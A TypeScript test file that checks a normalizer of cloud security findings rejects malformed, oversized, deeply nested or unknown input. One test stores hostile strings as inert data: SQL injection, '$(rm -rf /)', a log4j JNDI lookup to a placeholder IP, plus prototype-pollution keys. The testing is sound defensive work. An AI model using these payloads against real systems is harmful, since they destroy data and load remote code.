import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FindingSchema } from '../../../shared/core/model/finding.js';
import { normalize } from '../../../shared/core/pipeline/normalize.js';
import { readDocuments } from '../../../shared/core/sources/read.js';
import { loadFixture, loadFixtureText, pick, variant } from '../../helpers/fixtures.js';

const GD = 'guardduty/s3-bucket-anonymous-access.eventbridge.json';
const MB = 1024 * 1024;

/** `{ a: { a: … } }` nested `depth` levels. */
function nestedObject(depth: number): unknown {
  let v: unknown = 'leaf';
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}

describe('bad input', () => {
  it('rejects truncated JSON with the input, line and column', () => {
    // Act
    const out = readDocuments(loadFixtureText('bad/truncated.json'), 'bad/truncated.json');
    // Assess
    expect(out.rejected).toHaveLength(1);
    expect(out.rejected[0]).toMatchObject({ input: 'bad/truncated.json', source: 'unknown', path: '$' });
    expect(out.rejected[0]?.reason).toMatch(/line \d+, column \d+/);
  });

  it('rejects wrong JSON types naming the field', () => {
    // Act
    const out = normalize(loadFixture('bad/wrong-types.json'), 'bad/wrong-types.json');
    const severity = normalize(variant(loadFixture(GD), { 'detail.severity': 'HIGH' }), 'x.json');
    // Assess
    expect(out.findings).toEqual([]);
    expect(out.rejected).toEqual([
      {
        input: 'bad/wrong-types.json',
        source: 'guardduty',
        path: 'detail.accountId',
        reason: expect.stringMatching(/expected string/),
      },
    ]);
    expect(severity.rejected[0]).toMatchObject({
      source: 'guardduty',
      path: 'detail.severity',
      reason: expect.stringMatching(/expected number/),
    });
  });

  it('rejects a finding without a resource, naming the missing field', () => {
    // Act
    const gd = normalize(loadFixture('bad/missing-resource.json'), 'gd.json');
    const noDetails = normalize(
      variant(loadFixture('guardduty/eks.eventbridge.json'), { 'detail.resource.eksClusterDetails': undefined }),
      'eks.json',
    );
    const scc = normalize(
      variant(loadFixture('scc/public-bucket-acl.notification.json'), { 'finding.resourceName': undefined }),
      's.json',
    );
    const defender = normalize(
      variant(loadFixture('defender/alert-storage-open-acl.workflow-automation.json'), {
        ResourceIdentifiers: [],
        AzureResourceId: undefined,
        Entities: [],
      }),
      'd.json',
    );
    // Assess
    expect(gd.rejected[0]).toEqual({
      input: 'gd.json',
      source: 'guardduty',
      path: 'detail.resource',
      reason: 'missing required field (expected object)',
    });
    expect(noDetails.rejected[0]).toMatchObject({
      source: 'guardduty',
      path: 'detail.resource.resourceType',
      reason: expect.stringMatching(/^missing resource/),
    });
    expect(scc.rejected[0]).toMatchObject({ source: 'scc', path: 'finding.resourceName' });
    expect(defender.rejected[0]).toMatchObject({
      source: 'defender',
      path: 'ResourceIdentifiers',
      reason: expect.stringMatching(/^missing resource/),
    });
  });

  it('rejects an unknown source without guessing', () => {
    // Act
    const eventBridge = normalize(loadFixture('bad/unknown-source.json'), 'u.json');
    const random = normalize({ hello: 'world' }, 'r.json');
    const scalar = normalize(42, 'n.json');
    const array = normalize([{ a: 1 }], 'a.json');
    // Assess
    expect(eventBridge.rejected[0]).toMatchObject({
      source: 'unknown',
      path: 'source',
      reason: expect.stringMatching(/aws\.inspector2/),
    });
    expect(random.rejected[0]).toMatchObject({
      source: 'unknown',
      path: '$',
      reason: expect.stringMatching(/^unknown source/),
    });
    expect(scalar.rejected[0]).toMatchObject({
      source: 'unknown',
      path: '$',
      reason: expect.stringMatching(/got number/),
    });
    expect(array.rejected[0]).toMatchObject({ source: 'unknown', path: '[0]' });
  });

  it('rejects the Event Grid validation handshake as not a finding', () => {
    // Act
    const out = normalize(loadFixture('bad/eventgrid-validation.json'), 'eg.json');
    // Assess
    expect(out.findings).toEqual([]);
    expect(out.rejected).toEqual([
      {
        input: 'eg.json',
        source: 'defender',
        path: '[0].eventType',
        reason: expect.stringMatching(/validation.*not a finding/),
      },
    ]);
  });

  it('rejects Security Hub V2 (OCSF) as unsupported', () => {
    // Act
    const event = normalize(loadFixture('bad/securityhub-v2-ocsf.json'), 'v2.json');
    const bare = normalize({ findings: [{ class_uid: 2004, metadata: { version: '1.6.0' } }] }, 'v2b.json');
    // Assess
    expect(event.rejected[0]).toMatchObject({ source: 'securityhub', reason: 'unsupported: Security Hub V2 (OCSF)' });
    expect(bare.rejected[0]).toMatchObject({
      source: 'securityhub',
      path: 'findings[0]',
      reason: expect.stringMatching(/^unsupported/),
    });
  });

  it('rejects only the bad finding and normalizes the rest of the batch', () => {
    // Act
    const out = normalize(loadFixture('bad/securityhub-batch-one-bad.json'), 'batch.json');
    // Assess
    expect(out.findings.map((f) => f.resource.id)).toEqual([
      'arn:aws:s3:::acme-data-lake-raw',
      'arn:aws:s3:::acme-reports',
    ]);
    expect(out.rejected).toEqual([
      {
        input: 'batch.json',
        source: 'securityhub',
        path: 'detail.findings[1].Resources',
        reason: 'expected at least one resource',
      },
    ]);
  });

  it('rejects a string field of 1 MB or more, naming it, and keeps the other findings', () => {
    // Prepare
    const base = loadFixture('bad/securityhub-batch-one-bad.json');
    const event = variant(base, {
      'detail.findings[1]': pick(loadFixture('securityhub/bare.json'), ''),
      'detail.findings[2].Description': 'A'.repeat(MB),
    });
    const multibyte = variant(loadFixture(GD), { 'detail.description': 'é'.repeat(MB / 2) });
    const justBelow = variant(loadFixture(GD), { 'detail.description': 'a'.repeat(MB - 1) });
    // Act
    const out = normalize(event, 'big.json');
    const mb = normalize(multibyte, 'mb.json');
    const below = normalize(justBelow, 'below.json');
    // Assess
    expect(out.findings).toHaveLength(2);
    expect(out.rejected).toEqual([
      {
        input: 'big.json',
        source: 'securityhub',
        path: 'detail.findings[2].Description',
        reason: 'string field of 1 MB or more',
      },
    ]);
    expect(mb.rejected[0]).toMatchObject({ path: 'detail.description' });
    expect(below.rejected).toEqual([]);
    expect(below.findings[0]?.description.length).toBeLessThanOrEqual(65536);
  });

  it('rejects a string of 1 MB or more and a too-deep value read from text, as the CLI and the queues pass them', () => {
    // Prepare: the documents carry their text's length (normalize's textChars)
    const big = readDocuments(
      JSON.stringify(variant(loadFixture(GD), { 'detail.description': 'é'.repeat(MB / 2) })),
      'mb.json',
    );
    const deepValue = variant(loadFixture(GD), { 'detail.service.additionalInfo': nestedObject(100) });
    const deep = readDocuments(JSON.stringify(deepValue), 'deep.json');
    // Act
    const [bigDoc, deepDoc] = [big.docs[0], deep.docs[0]];
    if (!bigDoc || !deepDoc) throw new Error('expected one document each');
    const mb = normalize(bigDoc.value, bigDoc.input, bigDoc);
    const tooDeep = normalize(deepDoc.value, deepDoc.input, deepDoc);
    // Assess: a short text has its nesting walked still; a long one every string too
    expect(deepDoc.textChars).toBeLessThan(10_000);
    expect(mb.rejected).toEqual([
      { input: 'mb.json', source: 'guardduty', path: 'detail.description', reason: 'string field of 1 MB or more' },
    ]);
    expect(tooDeep.rejected[0]).toMatchObject({
      input: 'deep.json',
      reason: expect.stringMatching(/nested more than 64/),
    });
    expect(tooDeep.findings).toEqual([]);
  });

  it('rejects ids with quotes, backslashes, whitespace or control characters', () => {
    // Prepare
    const base = loadFixture(GD);
    const arn = String(pick(base, 'detail.arn'));
    const bad = [`${arn}"`, `${arn}'`, `${arn}\\x`, `${arn} x`, `${arn}\u0000`, `${arn}\u001b[31m`, `${arn}\n`];
    // Act + Assess
    for (const id of bad) {
      const out = normalize(variant(base, { 'detail.arn': id }), 'h.json');
      expect(out.findings).toEqual([]);
      expect(out.rejected[0]).toMatchObject({
        source: 'guardduty',
        path: 'detail.arn',
        reason: expect.stringMatching(/forbidden character/),
      });
    }
    const hostileId = normalize(loadFixture('bad/hostile-id.json'), 'hid.json');
    expect(hostileId.rejected[0]).toMatchObject({ path: 'detail.arn' });
  });

  it('keeps hostile free text verbatim as data and never lets __proto__ or constructor keys change a prototype', () => {
    // Prepare
    const text = loadFixtureText('bad/hostile-strings.json');
    const parsed = readDocuments(text, 'hostile.json').docs[0]?.value;
    // Act
    const out = normalize(parsed, 'hostile.json');
    // Assess
    expect(out.rejected).toEqual([]);
    const f = out.findings[0];
    expect(f?.title).toBe(
      'x" OR 1=1 -- ; DROP TABLE cases; $(rm -rf /) `id` project = SEC AND text ~ "*" ORDER BY key',
    );
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile text is a literal log4j-style payload, not a template
    expect(f?.description).toContain('${jndi:ldap://192.0.2.1/a}');
    expect(Object.getPrototypeOf(f?.resource.tags)).toBe(Object.prototype);
    expect(Object.hasOwn(f?.resource.tags ?? {}, '__proto__')).toBe(false);
    expect(f?.resource.tags.constructor).toBe('polluted');
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('never changes a prototype when PascalCase or snake_case keys are rebuilt from hostile input', () => {
    // Prepare
    const pascal = JSON.parse(
      loadFixtureText('guardduty/get-findings.pascal.json').replace(
        '"Findings": [',
        '"Findings": [{"__proto__": {"polluted": 1}, "SchemaVersion": "2.0", "Arn": "arn:aws:guardduty:x"},',
      ),
    );
    const snake = JSON.parse(
      loadFixtureText('scc/notification.proto-names.json').replace(
        '"finding": {',
        '"finding": {"__proto__": {"polluted": 1}, ',
      ),
    );
    // Act
    const a = normalize(pascal, 'p.json');
    const b = normalize(snake, 's.json');
    // Assess
    expect(a.findings).toHaveLength(2);
    expect(a.rejected).toHaveLength(1);
    expect(b.findings).toHaveLength(1);
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  });

  it('never throws and only returns schema-valid findings whatever JSON it is given', () => {
    // Prepare
    const seeds = [
      loadFixture(GD),
      loadFixture('securityhub/s3.8-failed.eventbridge.json'),
      loadFixture('scc/public-bucket-acl.notification.json'),
    ];
    // Act + Assess
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom(...seeds), fc.jsonValue(), (junk, seed, leaf) => {
        for (const input of [junk, { ...Object(seed), detail: leaf }, { finding: leaf, resource: leaf }]) {
          const out = normalize(input, 'fuzz');
          for (const f of out.findings) FindingSchema.parse(f);
          for (const r of out.rejected) expect(r.reason.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 300 },
    );
  });
});
